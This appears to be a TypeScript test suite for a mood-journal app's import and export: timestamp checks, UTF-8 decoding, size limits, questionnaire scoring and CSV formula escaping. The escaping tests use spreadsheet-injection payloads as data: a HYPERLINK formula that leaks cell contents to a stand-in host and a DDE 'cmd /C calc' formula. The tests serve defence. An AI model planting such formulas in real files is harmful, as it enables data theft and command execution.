import * as assert from 'assert';
import { promises as fs } from 'fs';
import * as path from 'path';
import { parseDaylio, defaultDaylioMapping } from '../../src/core/transfer/daylio';
import { buildQuestionnaire } from '../../src/core/entries';
import { implausibleStamp } from '../../src/core/transfer/checks';
import { validateRow, type CheckIn, type Questionnaire } from '../../src/core/schemas';
import { checkImportSize, decodeImportText, exportCsv, exportJson, importCsv, importJson, planImport, rowsFromOps, unescapeFormula, type RowsByTable } from '../../src/core/transfer/transfer';
import { JournalStore } from '../../src/storage/journalStore';
import { checkIn, lifeEvent, note, questionnaire } from '../fixtures/transfer-rows';
import { fixedClock, sqlJs, tempDir } from './helpers';

const NOW = Date.parse('2026-06-01T12:00:00.000Z');
const EXPORTED_AT = '2026-06-01T12:00:00.000Z';
const HOUR = 3600_000;

const jsonOf = (rows: RowsByTable) => exportJson(rows, EXPORTED_AT);
const withStamp = (row: CheckIn, field: 'createdAt' | 'updatedAt' | 'deletedAt' | 'at', iso: string): CheckIn => ({ ...row, [field]: iso });

describe('import: stamps it can trust', () => {
  it('refuses a stamp more than one day in the future, naming file, line, row, field and the fix', () => {
    const ahead = new Date(NOW + 25 * HOUR).toISOString();
    for (const field of ['createdAt', 'updatedAt', 'deletedAt', 'at'] as const) {
      const rows = { checkins: [checkIn('ci-ok-0301', '2026-03-01', 6), withStamp(checkIn('ci-future-01', '2026-03-02', 7), field, ahead)] };
      assert.throws(
        () => importJson(jsonOf(rows), NOW),
        (e: Error) => {
          assert.match(e.message, /^line \d+: table "checkins", row ci-future-01: /);
          assert.ok(e.message.includes(`${field} ${ahead} is more than a day after now`), e.message);
          assert.match(e.message, /Check the clock of the device that made the file, correct it, then import it again\.$/);
          return true;
        }
      );
      const csv = exportCsv(rows);
      assert.throws(() => importCsv(csv, NOW), new RegExp(`^ImportError: checkins\\.csv, line 2: table "checkins", row ci-future-01: ${field} `));
    }
  });

  it('accepts stamps up to a day ahead (a fast clock or a zone ahead), and the rows import', () => {
    const nearlyADay = new Date(NOW + 23 * HOUR).toISOString();
    const rows = { checkins: [withStamp(checkIn('ci-ahead-001', '2026-06-02', 6), 'updatedAt', nearlyADay)] };
    assert.strictEqual(importJson(jsonOf(rows), NOW).ops.length, 1);
    assert.strictEqual(importCsv(exportCsv(rows), NOW).ops.length, 1);
  });

  it('accepts an upcoming life event (its day may be ahead), but not an edit stamp ahead', () => {
    const court = lifeEvent('ev-court-0701', '2026-07-01', 'Court date', '', { hh: 9 });
    const upcoming = { ...court, createdAt: EXPORTED_AT, updatedAt: EXPORTED_AT };
    assert.strictEqual(importJson(jsonOf({ life_events: [upcoming] }), NOW).ops.length, 1, 'an event logged for next month round-trips');
    assert.throws(() => importJson(jsonOf({ life_events: [court] }), NOW), /row ev-court-0701: createdAt 2026-07-01T13:00:00\.000Z is more than a day after now/);
    assert.throws(() => importJson(jsonOf({ notes: [note('no-ahead-0701', '2026-07-01', 'from next month')] }), NOW), /row no-ahead-0701: createdAt /);
  });

  it('refuses stamps and dates before 1900, and accepts 1900 itself', () => {
    const old = { notes: [note('no-old-0001', '1899-12-31', 'a very old note', { hh: 12 })] };
    assert.throws(() => importJson(jsonOf(old), NOW), /row no-old-0001: createdAt 1899-12-31T\d\d:00:00\.000Z is before 1900\. Correct the year in the file, then import it again\./);
    const event = { ...lifeEvent('ev-date-0001', '2026-03-01', 'Moved house'), localDate: '1850-03-01' };
    assert.strictEqual(implausibleStamp(event, NOW), 'localDate 1850-03-01 is before 1900. Correct the year in the file, then import it again.');
    assert.strictEqual(implausibleStamp({ ...note('no-1900-0001', '1900-01-01', 'x', { hh: 12 }) }, NOW), undefined);
    assert.strictEqual(importJson(jsonOf({ notes: [note('no-1900-0001', '1900-01-01', 'x', { hh: 12 })] }), NOW).ops.length, 1);
  });

  it('lists a future or pre-1900 Daylio line as rejected, and imports the rest', () => {
    const header = 'full_date,date,weekday,time,mood,activities,note_title,note';
    const csv = [header, '2026-05-30,May 30,Saturday,9:00 am,good,,,fine', '2026-06-03,June 3,Wednesday,9:00 am,good,,,from the future', '1899-12-31,December 31,Sunday,9:00 pm,meh,,,old'].join('\n');
    const { ops, preview } = parseDaylio(csv, defaultDaylioMapping, 'America/New_York', NOW);
    assert.strictEqual(ops.length, 1);
    assert.strictEqual(preview.rejected.length, 2);
    assert.strictEqual(preview.rejected[0].line, 3);
    assert.match(preview.rejected[0].reason, /^date 2026-06-03 9:00 am is more than a day after now/);
    assert.strictEqual(preview.rejected[1].line, 4);
    assert.match(preview.rejected[1].reason, /^date 1899-12-31 9:00 pm is before 1900/);
  });

  it('refuses a row stamped years ahead, which no later edit here could ever beat', () => {
    const far = withStamp(checkIn('ci-far-00001', '2026-03-02', 7), 'updatedAt', '2031-01-01T00:00:00.000Z');
    assert.throws(() => planImport(importJson(jsonOf({ checkins: [far] }), NOW), new Set()), /updatedAt 2031-01-01T00:00:00\.000Z is more than a day after now/);
  });
});

describe('import: the files themselves', () => {
  it('refuses text that is not UTF-8, naming the file and the fix, and reads UTF-8 with or without a BOM', () => {
    const latin1 = new Uint8Array([0x6e, 0x6f, 0x74, 0x65, 0x3a, 0x20, 0x63, 0x61, 0x66, 0xe9]); // "note: café" in Latin-1
    assert.throws(() => decodeImportText(latin1, '/home/u/checkins.csv'), /^ImportError: \/home\/u\/checkins\.csv: the file is not UTF-8 text\. Open it in an editor, save it with the UTF-8 encoding, then import it again\.$/);
    const utf16 = new Uint8Array([0xff, 0xfe, 0x61, 0x00]);
    assert.throws(() => decodeImportText(utf16, 'export.json'), /not UTF-8/);
    assert.strictEqual(decodeImportText(new TextEncoder().encode('café ✓'), 'a.csv'), 'café ✓');
    assert.strictEqual(importCsv({ 'notes.csv': decodeImportText(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode('id,createdAt,updatedAt,deletedAt,at,localDate,utcOffset,text\r\n')]), 'notes.csv') }).ops.length, 0);
  });

  it('refuses an import over 100 MB before reading it', () => {
    const MB = 1024 * 1024;
    assert.doesNotThrow(() => checkImportSize([{ file: 'a.csv', size: 60 * MB }, { file: 'b.csv', size: 40 * MB }]));
    assert.throws(() => checkImportSize([{ file: 'a.csv', size: 60 * MB }, { file: 'b.csv', size: 40 * MB + 1 }]), /^ImportError: a\.csv, b\.csv: the chosen files hold 100\.0 MB; an import can be at most 100\.0 MB\. Choose fewer files at a time\.$/);
  });

  it('keeps two files with the same name apart: a second checkins.csv is named, not merged over the first', () => {
    const a = exportCsv({ checkins: [checkIn('ci-a-000001', '2026-03-01', 5)] })['checkins.csv'];
    const b = exportCsv({ checkins: [checkIn('ci-b-000001', '2026-03-02', 6)] })['checkins.csv'];
    assert.throws(() => importCsv({ '/exports/phone/checkins.csv': a, '/exports/laptop/checkins.csv': b }, NOW), /^ImportError: \/exports\/laptop\/checkins\.csv: \/exports\/phone\/checkins\.csv is also a "checkins" table\. Import one export folder at a time\.$/);
  });
});

describe('import preview', () => {
  it('counts rows edited later elsewhere as "newer elsewhere", and leaves the journal\'s own version', () => {
    const here = checkIn('ci-both-0001', '2026-03-01', 5);
    const older = checkIn('ci-both-0002', '2026-03-02', 5);
    const same = checkIn('ci-both-0003', '2026-03-03', 5);
    const stored = new Map([here, older, same].map((r) => [r.id, r]));
    const later = new Date(Date.parse(here.updatedAt) + HOUR).toISOString();
    const earlier = new Date(Date.parse(older.updatedAt) - HOUR).toISOString();
    const file = { checkins: [{ ...here, mood: 8, updatedAt: later }, { ...older, mood: 2, updatedAt: earlier }, same, checkIn('ci-new-00001', '2026-03-04', 6)] };
    const { toWrite, preview, newer } = planImport(importJson(jsonOf(file), NOW), (_t, id) => stored.get(id));
    assert.deepStrictEqual(toWrite.map((o) => o.row.id), ['ci-new-00001']);
    assert.deepStrictEqual([preview.duplicates, preview.differing, newer], [3, 2, 1]);
  });
});

describe('questionnaires agree with their scoring', () => {
  const phq = (answers: number[], over: Partial<Questionnaire> = {}): Questionnaire => ({ ...questionnaire('qu-phq-0001', '2026-03-02', 'phq9', [1, 1, 1, 1, 0, 1, 1, 0, 0]), answers, ...over });

  it('refuses a PHQ-9 with 7 answers, a total that is not their sum, or the wrong band', () => {
    assert.throws(() => validateRow('questionnaires', phq([1, 1, 1, 1, 0, 1, 1], { total: 6 })), /answers: PHQ-9 has 9 questions but this result has 7 answers/);
    assert.throws(() => validateRow('questionnaires', phq([3, 3, 3, 3, 3, 3, 3, 0, 0], { total: 6, band: 'mild' })), /total: the total 6 is not the sum of the answers \(21\); set it to 21/);
    assert.throws(() => validateRow('questionnaires', phq([3, 3, 3, 3, 3, 3, 3, 0, 0], { total: 21, band: 'mild' })), /band: "mild" is not the PHQ-9 band for a total of 21; it is "severe"/);
    const gad = { ...questionnaire('qu-gad-0001', '2026-03-02', 'gad7', [1, 1, 1, 1, 1, 1, 1]), answers: [1, 1, 1, 1, 1, 1, 1, 1, 1], total: 9 };
    assert.throws(() => validateRow('questionnaires', gad), /GAD-7 has 7 questions but this result has 9 answers/);
    assert.ok(validateRow('questionnaires', buildQuestionnaire({ kind: 'gad7', answers: [3, 3, 3, 3, 3, 3, 3], difficulty: null }, fixedClock('2026-03-02T10:00:00Z'))));
  });

  it('refuses the whole import when one result disagrees, naming the file, line and row', () => {
    const bad = phq([1, 1, 1, 1, 0, 1, 1], { total: 6 });
    assert.throws(() => importJson(jsonOf({ questionnaires: [bad] }), NOW), /^ImportError: line \d+: table "questionnaires", row qu-phq-0001: answers: PHQ-9 has 9 questions/);
    const csv = exportCsv({ questionnaires: [{ ...bad, answers: [1, 1, 1, 1, 0, 1, 1, 0, 0], total: 9, band: 'mild' }] });
    assert.throws(() => importCsv(csv, NOW), /^ImportError: questionnaires\.csv, line 2: table "questionnaires", row qu-phq-0001: total: the total 9 is not the sum of the answers \(6\)/);
  });

  it('reports a stored result that disagrees with its scoring, with its table and id, instead of dropping it silently', async () => {
    const dir = await tempDir();
    const sql = await sqlJs();
    const store = await JournalStore.open({ dir, sql, compactAfterMs: 60_000 });
    const clock = fixedClock('2026-05-04T10:00:00Z');
    const good = buildQuestionnaire({ kind: 'phq9', answers: [1, 1, 1, 1, 0, 1, 1, 0, 0], difficulty: 1 }, clock);
    const damaged = buildQuestionnaire({ kind: 'gad7', answers: [2, 2, 2, 2, 2, 2, 2], difficulty: null }, clock);
    await store.write([
      { table: 'questionnaires', row: good },
      { table: 'questionnaires', row: damaged }
    ]);
    await store.close();
    // Another program edits the total of the GAD-7 (14, "moderate") to 2.
    const file = path.join(dir, 'journal.sqlite');
    const db = new sql.Database(await fs.readFile(file));
    db.run(`UPDATE questionnaires SET total = 2 WHERE id = '${damaged.id}'`);
    await fs.writeFile(file, db.export());
    db.close();
    const again = await JournalStore.open({ dir, sql, compactAfterMs: 60_000 });
    const reported: string[] = [];
    again.onBadRow((e) => reported.push(`${e.table}/${e.rowId}: ${e.detail}`));
    assert.deepStrictEqual(again.select('questionnaires', 'deleted_at IS NULL').map((q) => q.id), [good.id]);
    assert.deepStrictEqual(reported, [`questionnaires/${damaged.id}: total: the total 2 is not the sum of the answers (14); set it to 14`]);
    await again.close();
  });
});

describe('CSV export: formulae stay inert, and the round trip stays exact', () => {
  const NOTES = [
    '=HYPERLINK("https://example.invalid/?q="&A1,"Click me")',
    '@SUM(A1:A9)',
    '+1',
    '-2',
    '\t=1+1 after a tab',
    '\r=1+1 after a carriage return',
    "'=a note that really starts with an apostrophe",
    "''+two apostrophes",
    "'plain apostrophe",
    'a = b, not a formula'
  ];
  // Check-in notes keep leading white space (unlike the trimmed note table), so tab and CR survive.
  const rows = (): RowsByTable => ({
    checkins: NOTES.map((text, i) => checkIn(`ci-f-${String(i).padStart(4, '0')}`, '2026-03-01', 5, { hh: 8 + i, note: text, tags: i === 0 ? ['=tag', '@home'] : [] })),
    notes: [note('no-f-0001', '2026-03-01', '-just a dash')],
    life_events: [lifeEvent('ev-f-0001', '2026-03-01', '=cmd|" /C calc"!A0', '+note')]
  });

  it('puts an apostrophe before every cell a spreadsheet would run, and none before numbers', () => {
    const files = exportCsv(rows());
    const cells = (file: string) => files[file].split('\r\n').slice(1).filter(Boolean);
    const notes = cells('checkins.csv').join('\n');
    for (const bare of ['=HYPERLINK', '@SUM', '+1', '-2']) assert.ok(!new RegExp(`,"?${bare.replace(/[+]/g, '\\+')}`).test(notes), `${bare} is escaped`);
    assert.ok(notes.includes(`,"'=HYPERLINK(""https://example.invalid/?q=""&A1,""Click me"")"`));
    assert.ok(notes.includes(`,"'@SUM(A1:A9)"`));
    assert.ok(notes.includes(`,"'+1"`) && notes.includes(`,"'-2"`));
    assert.ok(notes.includes(`,"'\t=1+1 after a tab"`));
    assert.ok(notes.includes(`,"''=a note that really starts with an apostrophe"`));
    assert.ok(notes.includes(`,'plain apostrophe`), 'an apostrophe before ordinary text is left alone');
    assert.match(cells('checkins.csv')[0], /,-300,5,/, 'a negative number (the UTC offset) stays a number');
    assert.ok(cells('notes.csv')[0].endsWith(`,"'-just a dash"`));
    assert.ok(cells('life_events.csv')[0].includes(`,"'=cmd|"" /C calc""!A0","'+note"`));
  });

  it('imports exactly what was exported', () => {
    const original = rows();
    const imported = importCsv(exportCsv(original), NOW);
    const { toWrite } = planImport(imported, new Set());
    assert.strictEqual(jsonOf(rowsFromOps(toWrite)), jsonOf(original));
    const texts = toWrite.filter((o) => o.table === 'checkins').map((o) => (o.row as CheckIn).note);
    assert.deepStrictEqual([...texts].sort(), [...NOTES].sort());
  });

  it('takes off exactly one apostrophe, and only before a formula character', () => {
    assert.strictEqual(unescapeFormula("'=1"), '=1');
    assert.strictEqual(unescapeFormula("''=1"), "'=1");
    assert.strictEqual(unescapeFormula("'plain"), "'plain");
    assert.strictEqual(unescapeFormula('=1'), '=1', 'a file written elsewhere, unescaped, is read as it is');
  });
});
